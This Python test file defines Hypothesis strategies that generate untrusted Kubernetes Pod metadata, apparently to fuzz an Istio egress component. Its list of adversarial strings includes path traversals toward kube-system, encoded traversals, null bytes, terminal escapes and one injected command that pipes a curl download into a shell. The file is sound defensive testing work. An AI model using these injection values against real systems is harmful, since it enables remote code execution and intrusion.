"""What a tenant can have stored: Hypothesis strategies of owner references, times and Pods.

The API server checks the name and namespace of an object; an owner's name, a time in
`managedFields`, labels' values of custom resources and annotations are their author's text.
"""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

from init_egress.rule.istio import EXCLUDE_RANGES, STATUS

Json = dict[str, Any]

TRAVERSALS = (
    "../../../namespaces/kube-system/deployments/victim",
    "..",
    ".",
    "../replicasets?watch=1",
    "%2e%2e%2f%2e%2e",
    "a%2fb",
    "a\nb",
    "a\x00b",
    "a#b",
    "x -n t; curl example.com|sh #",
    "\x1b[2J",
    "",
    "A",
    "é",
    "a" * 254,
    "a" * 200_000,
)

texts = st.sampled_from(TRAVERSALS) | st.text(max_size=30)
names = st.sampled_from(["web", "db-0", "a.b", "a"]) | texts
_versions = st.sampled_from(["apps/v1", "batch/v1", "v1", "argoproj.io/v1alpha1"]) | st.builds(
    "{}/{}".format, texts, texts
)
_kinds = st.sampled_from(["Deployment", "ReplicaSet", "StatefulSet", "Job", "Workflow"]) | texts
owner_references = st.fixed_dictionaries(
    {
        "apiVersion": _versions,
        "kind": _kinds,
        "name": names,
        "uid": st.sampled_from(["u", "victim", ""]) | texts,
        "controller": st.just(True),
    }
)
times = st.sampled_from(
    ["2026-03-01T11:30:00Z", "0000-01-01T00:00:00Z", "9999-12-31T23:59:60Z", "-1", "", None]
)
_fields = {"f:metadata": {"f:annotations": {f"f:{EXCLUDE_RANGES}": {}}}}
managed_fields = st.builds(lambda time: [{"time": time, "fieldsV1": _fields}], times)
_annotations = st.dictionaries(
    st.sampled_from(
        [
            EXCLUDE_RANGES,
            "kubernetes.io/config.mirror",
            "kubectl.kubernetes.io/last-applied-configuration",
            "batch.kubernetes.io/job-index-failure-count",
        ]
    ),
    texts,
    max_size=2,
)
_statuses = st.fixed_dictionaries(
    {
        "name": st.just("fetch"),
        "restartCount": st.sampled_from([0, 7]),
        "state": st.sampled_from([{"waiting": {"reason": "CrashLoopBackOff"}}, {}])
        | st.builds(lambda time: {"running": {"startedAt": time}}, times),
    }
)


def _pod(
    number: int,
    references: list[Json],
    managed: list[Json] | None,
    annotations: Json,
    status: Json,
) -> Json:
    return {
        "metadata": {
            "namespace": "team",
            "name": f"pod-{number:03}",
            "uid": f"uid-{number}",
            "resourceVersion": "1",
            "creationTimestamp": "2026-03-01T11:00:00Z",
            "annotations": {STATUS: "{}", **annotations},
            "ownerReferences": references,
            **({} if managed is None else {"managedFields": managed}),
        },
        "spec": {"initContainers": [{"name": "fetch"}], "containers": [{"name": "istio-proxy"}]},
        "status": {"phase": "Pending", "initContainerStatuses": [status]},
    }


pods = st.lists(
    st.tuples(
        st.lists(owner_references, max_size=2),
        st.none() | managed_fields,
        _annotations,
        _statuses,
    ),
    min_size=1,
    max_size=6,
).map(lambda drawn: [_pod(number, *parts) for number, parts in enumerate(drawn)])
"""The Pods of a namespace, in the order in which the API server lists them."""
